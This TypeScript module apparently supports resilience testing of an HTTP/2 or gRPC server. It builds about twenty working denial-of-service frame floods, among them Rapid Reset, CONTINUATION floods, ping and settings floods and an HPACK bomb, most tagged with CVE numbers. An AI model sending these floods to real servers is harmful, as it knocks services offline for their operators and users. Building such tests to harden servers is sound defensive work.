import { FLAG, frame, grpcHeaders, headerBlock, TYPE } from "./http2-frames";

const { data, headers, priority, reset, settings, ping, window, continuation } = TYPE;
const { endHeaders, endStream } = FLAG;

/** What one hostile connection sends behind its hello, in chunks; the generator is asked for as much as the peer takes. */
export interface Flood {
  readonly name: string;
  /** Whether the attacker reads what it is answered. */
  readonly reads: boolean;
  chunks(path: string): Iterable<Buffer>;
}

const number = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value >>> 0);
  return bytes;
};
const setting = (id: number, value: number): Buffer => Buffer.concat([Buffer.from([0, id]), number(value)]);

/** So many chunks of so many frames each; streams are numbered as clients do: 1, 3, 5, … */
function* many(chunks: number, each: number, make: (streamId: number) => Buffer): Iterable<Buffer> {
  for (let chunk = 0; chunk < chunks; chunk++)
    yield Buffer.concat(Array.from({ length: each }, (_, index) => make(2 * (chunk * each + index) + 1)));
}

const flood = (name: string, chunks: Flood["chunks"], reads = true): Flood => ({ name, chunks, reads });

/** Known ways to keep an HTTP/2 server busy or full, by the numbers that they have in public lists where they have one. */
export const FLOODS: readonly Flood[] = [
  flood("streams that are reset at once (CVE-2023-44487)", (path) => {
    const block = grpcHeaders(path);
    return many(30, 200, (id) =>
      Buffer.concat([frame(headers, endHeaders, id, block), frame(reset, 0, id, number(8))]),
    );
  }),
  flood("streams that the server is made to reset (CVE-2025-8671)", (path) => {
    const block = grpcHeaders(path);
    return many(30, 200, (id) =>
      Buffer.concat([frame(headers, endHeaders | endStream, id, block), frame(window, 0, id, number(0))]),
    );
  }),
  flood("headers that never end (CVE-2024-27983)", function* (path) {
    yield frame(headers, 0, 1, grpcHeaders(path));
    yield* many(60, 100, () => frame(continuation, 0, 1, headerBlock({ "x-more": "x".repeat(100) })));
  }),
  flood("headers that break off in a continuation, and the connection with them (CVE-2024-27983)", function* (path) {
    yield frame(headers, 0, 1, grpcHeaders(path));
    yield frame(continuation, 0, 1, headerBlock({ "x-more": "x" }));
  }),
  flood("empty continuations", function* (path) {
    yield frame(headers, 0, 1, grpcHeaders(path));
    yield* many(60, 100, () => frame(continuation, 0, 1));
  }),
  flood("settings (CVE-2019-9515)", () => many(60, 200, () => frame(settings, 0, 0, setting(1, 4096)))),
  flood("settings whose answers are not read", () => many(60, 200, () => frame(settings, 0, 0)), false),
  flood("pings (CVE-2019-9512)", () => many(60, 200, () => frame(ping, 0, 0, Buffer.alloc(8)))),
  flood("pings whose answers are not read", () => many(60, 200, () => frame(ping, 0, 0, Buffer.alloc(8))), false),
  flood("priorities (CVE-2019-9513)", () =>
    many(60, 200, (id) => frame(priority, 0, id, Buffer.concat([number(id + 2), Buffer.from([15])]))),
  ),
  flood("empty headers (CVE-2019-9516)", function* () {
    const nameless = Buffer.concat(Array.from({ length: 1000 }, () => Buffer.from([0, 0, 0])));
    yield* many(100, 1, (id) => frame(headers, endHeaders, id, nameless));
  }),
  flood("empty data (CVE-2019-9518)", function* (path) {
    yield frame(headers, endHeaders, 1, grpcHeaders(path));
    yield* many(60, 200, () => frame(data, 0, 1));
  }),
  flood("windows that are opened by a byte", () => many(60, 200, () => frame(window, 0, 0, number(1)))),
  flood("a window beyond its bound (CVE-2026-21714)", () =>
    many(200, 10, () => frame(window, 0, 0, number(0x7fffffff))),
  ),
  flood(
    "answers that are not read, a byte at a time (CVE-2019-9511)",
    function* (path) {
      yield frame(settings, 0, 0, setting(4, 1));
      const block = grpcHeaders(path);
      yield* many(50, 200, (id) =>
        Buffer.concat([frame(headers, endHeaders, id, block), frame(data, endStream, id, Buffer.alloc(5))]),
      );
    },
    false,
  ),
  flood("a small block that unpacks to much (HPACK bomb)", function* (path) {
    const [name, value] = ["x-bomb", "b".repeat(3900)];
    const stored = headerBlock({ [name]: value });
    stored[0] = 0x40;
    yield frame(headers, endHeaders | endStream, 1, Buffer.concat([grpcHeaders(path), stored]));
    const references = Buffer.alloc(16_000, 0x80 | 62);
    yield* many(100, 1, (id) => frame(headers, endHeaders | endStream, id + 2, references));
  }),
  flood("a table of headers as large as can be, and small again", () =>
    many(100, 100, (id) => frame(settings, 0, 0, setting(1, id % 4 === 1 ? 0xffffffff : 0))),
  ),
  flood("headers larger than they may be", function* (path) {
    const big = headerBlock({ "x-big": "x".repeat(16_000) });
    yield frame(headers, 0, 1, grpcHeaders(path));
    for (let i = 0; i < 200; i++) yield frame(continuation, i === 199 ? endHeaders : 0, 1, big);
  }),
  flood("garbage for headers, as much as a frame may have (CVE-2025-59465)", () =>
    many(100, 1, (id) => frame(headers, endHeaders, id, Buffer.alloc(16_000, 0xff))),
  ),
  flood("frames that are longer than they may be", () => [frame(data, 0, 1, Buffer.alloc(20_000)), Buffer.alloc(0)]),
  flood("bodies that are begun and left", function* (path) {
    const block = grpcHeaders(path);
    const begun = Buffer.from([0, 0, 4, 0, 0, 1, 2, 3]);
    yield* many(20, 200, (id) => Buffer.concat([frame(headers, endHeaders, id, block), frame(data, 0, id, begun)]));
  }),
];
